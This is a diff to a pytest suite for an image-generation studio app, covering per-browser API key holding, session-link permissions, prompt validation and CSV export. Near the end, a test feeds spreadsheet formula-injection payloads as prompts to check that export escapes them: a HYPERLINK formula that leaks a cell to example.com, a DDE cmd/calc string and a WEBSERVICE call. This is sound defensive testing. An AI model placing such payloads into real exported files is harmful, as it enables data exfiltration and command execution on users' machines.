@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import gc
 import io
 import uuid
 from dataclasses import replace
@@ -27,12 +28,20 @@ from tests.plugins.engine import (
 )
 
 
-def submit(studio: Studio, *, api_key: str | None = None, session_id: str = "s", **changes):
+def submit(
+    studio: Studio,
+    *,
+    api_key: str | None = None,
+    session_id: str = "s",
+    key_holder: str | None = None,
+    **changes,
+):
     return studio.submit(
         quick_draft(**changes),
         submission_id=str(uuid.uuid4()),
         session_id=session_id,
         api_key=api_key,
+        key_holder=key_holder,
     )
 
 
@@ -100,11 +109,111 @@ def test_billed_jobs_wait_for_their_key_and_resume_with_it(open_studio, engine_g
     restarted = open_studio(base_url=engine_gateway.url)
     assert [waiting.id for waiting in restarted.jobs_waiting_for_key()] == [job.id]
     assert restarted.job(job.id).status is JobStatus.QUEUED
-    fingerprint = restarted.use_session_key(typed)
+    fingerprint = restarted.use_session_key(typed, holder="browser-1")
     assert fingerprint == job.key_fingerprint
     done = wait_until(finished(restarted, job))
     assert done.status is JobStatus.SUCCEEDED
     assert restarted.jobs_waiting_for_key() == []
+
+
+def test_a_key_stays_held_while_any_browser_session_holds_it(open_studio, engine_gateway):
+    studio = open_studio(base_url=engine_gateway.url, start_watcher=False)
+    typed = f"{ENGINE_KEY}+slow:endpoint=submit:seconds=0"
+    fingerprint = studio.use_session_key(typed, holder="browser-a")
+    assert studio.use_session_key(f"  {typed}\n", holder="browser-b") == fingerprint
+    studio.forget_session_key(typed, holder="browser-a")
+    assert fingerprint in studio.held_key_fingerprints()
+    studio.forget_session_key(typed, holder="browser-a")  # twice changes nothing
+    assert fingerprint in studio.held_key_fingerprints()
+    studio.forget_session_key(typed, holder="browser-b")
+    assert fingerprint not in studio.held_key_fingerprints()
+    # Only the demo key is left in the process.
+    assert studio.held_key_fingerprints() == [studio.demo_fingerprint]
+
+
+def test_a_browser_session_that_ends_lets_go_of_its_key(demo_studio: Studio):
+    class Session:
+        pass
+
+    ended, still_open = Session(), Session()
+    typed = "pz-typed-key-0123456789"
+    fingerprint = demo_studio.use_session_key(typed, holder="browser-a", alive=ended)
+    demo_studio.use_session_key(typed, holder="browser-b", alive=still_open)
+    del ended
+    gc.collect()
+    assert fingerprint in demo_studio.held_key_fingerprints()
+    del still_open
+    gc.collect()
+    assert fingerprint not in demo_studio.held_key_fingerprints()
+
+
+def test_forgetting_the_configured_key_in_a_session_keeps_it_for_the_app(billed_studio: Studio):
+    configured = billed_studio.settings.fingerprint(ENGINE_KEY)
+    billed_studio.use_session_key(ENGINE_KEY, holder="browser-a")
+    billed_studio.forget_session_key(ENGINE_KEY, holder="browser-a")
+    assert configured in billed_studio.held_key_fingerprints()
+
+
+@pytest.mark.parametrize("bad", ["\u200b", "\ufeff", "\n", "\u00a0"])
+def test_a_key_with_a_character_no_key_can_have_is_never_held(demo_studio: Studio, bad: str):
+    with pytest.raises(ValueError, match="can't be part of a key"):
+        demo_studio.use_session_key(f"{ENGINE_KEY}{bad}x", holder="browser-a")
+    assert demo_studio.held_key_fingerprints() == [demo_studio.demo_fingerprint]
+
+
+def test_a_shared_session_link_never_carries_the_power_to_spend(open_studio, engine_gateway):
+    # Browser A enters a key and sends a job whose answer is lost; browser B opened A's
+    # ?session= link (same session id) but entered no key.
+    studio = open_studio(base_url=engine_gateway.url)
+    typed = f"{ENGINE_KEY}+lost_submit"
+    job = submit(studio, api_key=typed, session_id="shared", key_holder="browser-a")
+    assert job.status is JobStatus.UNCERTAIN
+    sent = len(engine_gateway.tasks())
+
+    with pytest.raises(KeyRequired, match="not entered in this browser session"):
+        studio.resend(job.id, submission_id="from-b", session_id="shared", key_holder="browser-b")
+    # A forgets the key: from then on it is not in the process, and B still cannot send.
+    studio.forget_session_key(typed, holder="browser-a")
+    assert job.key_fingerprint not in studio.held_key_fingerprints()
+    with pytest.raises(KeyRequired):
+        studio.resend(job.id, submission_id="from-b2", session_id="shared", key_holder="browser-b")
+    assert studio.job(job.id).status is JobStatus.UNCERTAIN
+    assert len(engine_gateway.tasks()) == sent
+    assert studio.history(session_id="shared") == [studio.job(job.id)]
+
+
+def test_a_job_in_flight_waits_once_its_key_is_forgotten_and_resumes_when_entered(
+    open_studio, engine_gateway
+):
+    typed = f"{ENGINE_KEY}+slow:endpoint=submit:seconds=0"
+    studio = open_studio(base_url=engine_gateway.url, start_watcher=False)
+    job = submit(studio, api_key=typed, key_holder="browser-a")
+    assert job.status is JobStatus.QUEUED
+    studio.forget_session_key(typed, holder="browser-a")
+    assert [waiting.id for waiting in studio.jobs_waiting_for_key()] == [job.id]
+    studio.watcher.start()
+    studio.use_session_key(typed, holder="browser-c")
+    assert wait_until(finished(studio, job)).status is JobStatus.SUCCEEDED
+
+
+@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
+def database_url(request: pytest.FixtureRequest, tmp_path) -> str:
+    if request.param == "sqlite":
+        return settings_for(tmp_path / "data").database_url
+    return request.getfixturevalue("postgres_database_url")
+
+
+@pytest.mark.parametrize("field", ["prompt", "negative_prompt"])
+def test_a_nul_in_a_prompt_is_refused_before_anything_is_stored(
+    database_url: str, tmp_path, field: str
+):
+    settings = replace(settings_for(tmp_path / "data"), database_url=database_url)
+    with Studio.open(settings, start_watcher=False) as studio:
+        with pytest.raises(InvalidRequest) as caught:
+            submit(studio, **{field: "waves\x00 at dusk"})
+        assert [problem.field for problem in caught.value.problems] == [field]
+        assert "control character (U+0000" in str(caught.value)
+        assert studio.count_history() == 0
 
 
 def test_history_reuse_gives_back_the_settings_and_image(demo_studio: Studio):
@@ -311,3 +420,27 @@ def test_expected_finish_counts_from_the_start_once_the_gateway_started_the_job(
     assert demo_studio.expected_finish(queued_job) == submitted + timedelta(seconds=90)
     assert demo_studio.expected_finish(running_job) == submitted + timedelta(seconds=160)
     assert demo_studio.expected_finish(template) is None  # finished jobs expect nothing
+
+
+@pytest.mark.parametrize(
+    "prompt",
+    [
+        '=HYPERLINK("https://example.com/?leak="&A1,"open")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_export_keeps_formulas_from_running_in_a_spreadsheet(demo_studio: Studio, prompt: str):
+    job = wait_until(finished(demo_studio, submit(demo_studio, prompt=prompt)))
+    # What the gateway says about the prompt it used is just as untrusted.
+    demo_studio.store.update(job.id, actual_prompt='=WEBSERVICE("https://example.com")')
+    rows = list(csv.reader(io.StringIO(demo_studio.export_csv().decode("utf-8"))))
+    record = dict(zip(CSV_COLUMNS, rows[1], strict=True))
+    assert record["prompt"] == "'" + prompt
+    assert record["actual prompt"] == '\'=WEBSERVICE("https://example.com")'
+    # Cells that are not formulas stay as they were.
+    assert record["status"] in {status.value for status in JobStatus}
+    assert record["estimate USD"][0].isdigit()
